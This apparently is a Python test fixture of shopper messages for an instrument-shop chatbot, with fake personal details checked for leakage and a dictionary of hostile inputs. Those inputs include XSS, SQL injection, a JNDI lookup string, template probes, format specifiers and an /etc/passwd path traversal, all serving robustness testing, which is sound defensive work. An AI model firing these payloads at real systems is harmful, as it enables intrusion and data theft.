"""What shoppers type into the processes that `conftest` starts.

One of them comes to the shop of instruments twice, each time to another process; another types what
no shop expects.
"""

from __future__ import annotations

SHOPPER = "wilhelmina"

PRIVATE = (
    "my name is Wilhelmina Tuttlebaum and I live at 12 Quince Lane",
    "my order number is QX-778812 and my e-mail is minna@private.example",
    "call me on +49 151 23456789",
)
SECRETS = ("Tuttlebaum", "Quince", "QX-778812", "minna@private.example", "23456789")
"""What of these messages may stand nowhere but in the conversation."""

FIRST = (
    "hi there",
    "stage pianos",
    "start over please",
    "classical guitars under $300, cheapest first",
    "not Piccola please",
    "what do people say about the CG-20?",
    "tell me more about the second one",
    "how long do I have to return it?",
    "where is my order MH-3001? I am ana@example.com",
    "add the first one to my cart",
    *PRIVATE,
    "",
    "haben Sie Gitarren für Anfänger? 🎸",
)
SECOND = ("is a case included with the second one?", "what is in my cart?", *PRIVATE, "thanks")

HOSTILE = {
    "nothing": "",
    "spaces": "   ",
    "one word of 100,000 letters": "w" * 100_000,
    "words of 100,000 characters": "guitar case " * 8_334,
    "emoji": "🎸🎸🎸",
    "Chinese": "你们有便宜的吉他吗？",
    "Japanese": "ギターを探しています",
    "Arabic": "هل لديكم جيتار؟",
    "Cyrillic": "у вас есть гитары?",
    "control characters": "gui\x00tar\x07 \x1b[31mred\x1b[0m\x7f\x08",
    "NUL": "\x00",
    "turned writing": "\u202esratiug\u202c \u200bguitars\ufeff",
    "line separator": "guitars\u2028and\u0085stands",
    "HTML": "<b>guitars</b> <img src=x onerror=alert(1)>",
    "JavaScript": "<script>alert('x')</script>",
    "SQL": "'; DROP TABLE products; --",
    "SQL in a wish": "guitars' OR '1'='1",
    "template": "{{7*7}}",
    "template in a wish": "{{7*7}} guitars",
    "JNDI": "${jndi:ldap://x.example/a}",
    "slot": "{shown}",
    "slot in a wish": "add {title} to my cart",
    "format": "%s %n %d {0} {} guitars",
    "path": "../../etc/passwd",
    "slash": "/",
    "payload cut off": "/search_products{bad json",
    "payload that is a list": '/search_products["a"]',
    "payload without an intent": '/{"product_id": "CG-10"}',
    "payload of no intent": "/nonexistent_intent",
    "payload of no intent with entities": '/nonexistent_intent{"a": 1}',
    "payload of an unknown entity": '/select_product{"id":"nope"}',
    "payload of an unknown product": '/add_to_cart{"product_id":"nope"}',
    "payload of an action": "/action_listen",
    "external event": "EXTERNAL: x",
    "more than there is": "add 99999999999999999999 of the first one to my cart",
    "restart": "/restart",
}
AFTERWARDS = "show me classical guitars"
